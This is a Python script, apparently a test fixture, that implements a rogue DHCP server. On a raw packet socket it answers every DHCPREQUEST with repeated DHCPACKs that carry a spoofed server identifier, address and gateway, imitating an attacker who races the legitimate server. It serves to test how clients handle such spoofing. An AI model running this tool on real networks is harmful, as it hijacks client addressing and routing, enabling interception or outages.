#!/usr/bin/env python3
"""A rogue DHCP server for tests: on IFACE (a packet socket, so it needs no address and no
netfilter sees it) it answers every DHCPREQUEST with a DHCPACK of its own: another server
identifier (--server) and another address (--addr), sent --count times 50 ms apart, as a
second server on a LAN or an attacker racing the real one would. It never answers a
DISCOVER. Runs until killed or --seconds pass (bounded).

RFC 2131 §4.1/§4.3.1 for the message layout; the ACK carries options 53, 54, 1, 3, 51.
"""
import argparse
import socket
import struct
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ack(xid, chaddr, server, addr, mac):
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 2, 1, 6, 0, xid, 0, 0x8000, b"\0" * 4,
                        socket.inet_aton(addr), socket.inet_aton(server), b"\0" * 4,
                        chaddr + b"\0" * 10, b"\0" * 64, b"\0" * 128)
    opts = (b"\x63\x82\x53\x63" + bytes([53, 1, 5]) + bytes([54, 4]) + socket.inet_aton(server) +
            bytes([1, 4, 255, 255, 255, 0]) + bytes([3, 4]) + socket.inet_aton(server) +
            bytes([51, 4]) + struct.pack("!I", 3600) + b"\xff")
    payload = bootp + opts
    payload += b"\0" * max(0, 300 - len(payload))
    udp = struct.pack("!HHHH", 67, 68, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     socket.inet_aton(server), b"\xff\xff\xff\xff")
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return b"\xff" * 6 + mac + b"\x08\x00" + ip + udp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("iface")
    ap.add_argument("--server", default="192.168.77.99")
    ap.add_argument("--addr", default="192.168.77.200")
    ap.add_argument("--count", type=int, default=5)
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--log", default="/dev/null")
    a = ap.parse_args()
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((a.iface, 0))
    mac = s.getsockname()[4]
    end = time.monotonic() + a.seconds
    with open(a.log, "a") as log:
        while time.monotonic() < end:
            s.settimeout(max(0.1, end - time.monotonic()))
            try:
                f = s.recv(2048)
            except socket.timeout:
                continue
            if len(f) < 14 + 20 + 8 + 240 or f[12:14] != b"\x08\x00" or f[14 + 9] != 17:
                continue
            ihl = (f[14] & 15) * 4
            udp = f[14 + ihl:]
            if struct.unpack("!H", udp[2:4])[0] != 67:
                continue
            d = udp[8:]
            if d[0] != 1 or len(d) < 243 or d[236:240] != b"\x63\x82\x53\x63":
                continue
            i, mtype = 240, 0
            while i + 1 < len(d) and d[i] != 255:
                if d[i] == 0:
                    i += 1
                    continue
                if d[i] == 53 and d[i + 1] == 1:
                    mtype = d[i + 2]
                i += 2 + d[i + 1]
            if mtype != 3:
                continue
            xid = struct.unpack("!I", d[4:8])[0]
            pkt = ack(xid, d[28:34], a.server, a.addr, mac)
            for _ in range(a.count):
                s.send(pkt)
                time.sleep(0.05)
            log.write("ACK %08x sent %d times\n" % (xid, a.count))
            log.flush()


if __name__ == "__main__":
    main()
